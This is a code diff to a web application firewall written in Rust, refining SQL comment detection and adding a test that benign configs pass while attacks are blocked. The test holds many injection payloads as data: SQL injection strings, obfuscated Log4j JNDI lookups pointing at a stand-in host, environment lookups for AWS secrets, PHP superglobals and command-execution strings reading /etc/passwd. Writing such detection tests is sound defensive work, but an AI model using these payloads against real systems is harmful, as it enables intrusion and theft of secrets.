@@ -3887,8 +3887,13 @@ fn sql_breakout_by_rescanning(v: &[u8]) -> bool {
                 }
                 // A quoted identifier qualified by another (`"reports"."id"`, `` `db`.`t` ``).
                 let qualified = prev == Some(b'.') && i >= 2 && v[i - 2] == b;
+                let dashes = v[i + 1..].iter().take_while(|&&c| c == b'-').count();
+                let dash = dashes > 0 && !v.get(i + 1 + dashes).is_some_and(|c| c.is_ascii_alphabetic());
+                let hash = next == Some(b'#') && v.get(i + 2).is_none_or(|c| c.is_ascii_whitespace());
                 if prev.is_some_and(|p| !opener(p)) && !qualified
-                    || next.is_some_and(|n| n.is_ascii_whitespace() || matches!(n, b';' | b')' | b'-' | b'#'))
+                    || next.is_some_and(|n| n.is_ascii_whitespace() || matches!(n, b';' | b')'))
+                    || dash
+                    || hash
                 {
                     return true;
                 }
@@ -4956,5 +4961,73 @@ fn php_function_names_that_are_words_count_at_level_2_only_before_a_call() {
     ] {
         let o = outcome(&pl2, &format!("/q?x={}", query_escaped(q)));
         assert!(has(&o), "{q}: {o:?}");
+    }
+}
+
+#[test]
+fn holdout51_and_52_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+    let field = |k: &str, v: &str| serde_json::json!({ k: v }).to_string();
+
+    // A quoted option string (`"-Wall"`, `"--host"`) or a string that starts with `#` and more
+    // (`'#[fg=colour244]'`, `"#{pane_current_path}"`) opens a string, not a comment.
+    let build = "cc_library(\n    name = \"codec\",\n    srcs = glob([\"src/*.cc\"]),\n    copts = select({\n        \"//conditions:default\": [\"-Wall\", \"-Wextra\", \"-std=c++20\"],\n    }),\n    deps = [\"@zlib\"],\n)\n";
+    assert!(!context::sql_breakout(build.to_ascii_lowercase().as_bytes()), "{build}");
+    for v in [
+        r#"args = ["--host", "0.0.0.0", "--port", "8080"]"#,
+        "set -g status-right '#[fg=colour244]#(whoami)@#H %Y-%m-%d'",
+        r##"bind | split-window -h -c "#{pane_current_path}""##,
+    ] {
+        assert!(!context::sql_breakout(v.to_ascii_lowercase().as_bytes()), "{v}");
+    }
+    for v in ["'-- x", "'-1 or 1=1", "'#", "'# x", "x' --", "admin'#", "[\"a\"]'-sleep(5)-'"] {
+        assert!(context::sql_breakout(v.as_bytes()), "{v}");
+    }
+    for q in ["1' or 1=1 --", "x'-- ", "admin'#", "' or '1'='1' #"] {
+        let o = json_post(&waf, &field("q", q));
+        assert!(o.blocked, "{q}: {o:?}");
+    }
+
+    // `system (` before a number and words is a parenthetical; before a number alone, a quote
+    // or a call it is a call.
+    let o = json_post(&waf, &field("notes", "We're studying the scale of the solar system (1 AU ≈ 150,000,000 km)."));
+    assert!(!o.blocked && rule(&o, 4404).is_none(), "{o:?}");
+    for q in ["system (-1)", "system (0)", "system ('id')", "system (chr(105).chr(100))"] {
+        let o = json_post(&waf, &field("q", q));
+        assert!(o.blocked && rule(&o, 4404) == Some(5), "{q}: {o:?}");
+    }
+
+    // A shell default (`${RAILS_ENV:-production}`) names no Log4j lookup; a lookup's prefix as a
+    // word of its own still does.
+    let o = json_post(&waf, &field("body", "deploy.rb reads ${RAILS_ENV:-production} and ${APP_ENV:-staging}"));
+    assert!(rule(&o, 4400).is_none(), "{o:?}");
+    for q in [
+        "${env:AWS_SECRET_ACCESS_KEY}",
+        "${jndi:ldap://x.example/a}",
+        "${${lower:j}ndi:ldap://x.example/a}",
+        "${${::-j}${::-n}di:rmi://x.example/a}",
+        "${x:-${env:HOME}}",
+        "${sys:user.name}",
+    ] {
+        let o = outcome(&waf, &format!("/q?x={}", query_escaped(q)));
+        assert!(o.blocked && rule(&o, 4400) == Some(5), "{q}: {o:?}");
+    }
+
+    // Perl's `$ARGV[0]` is no PHP superglobal; `$_GET`, `$GLOBALS` and `php://input` are.
+    let o = json_post(&waf, &field("q", "open my $fh, '<', $ARGV[0] or die"));
+    assert!(rule(&o, 3302).is_none(), "{o:?}");
+    for q in ["$_GET['c']", "$GLOBALS['x']", "php://input"] {
+        let o = json_post(&waf, &field("q", q));
+        assert!(o.blocked && rule(&o, 3302) == Some(5), "{q}: {o:?}");
+    }
+
+    // A function's name joined by a hyphen to the word before, then a quote, ends a quoted
+    // command name (`"wl-copy"`); a name before a quote is a call without parentheses.
+    let o = json_post(&waf, &field("conf", r#"bind -T copy-mode-vi y send -X copy-pipe-and-cancel "wl-copy""#));
+    assert!(rule(&o, 3301).is_none(), "{o:?}");
+    for q in ["@{[system 'whoami']}", "include\"/etc/passwd\";", "require$f;", "(\"system  \")(\"whoami\")"] {
+        let o = json_post(&waf, &field("q", q));
+        assert!(o.blocked && rule(&o, 3301) == Some(5), "{q}: {o:?}");
     }
 }
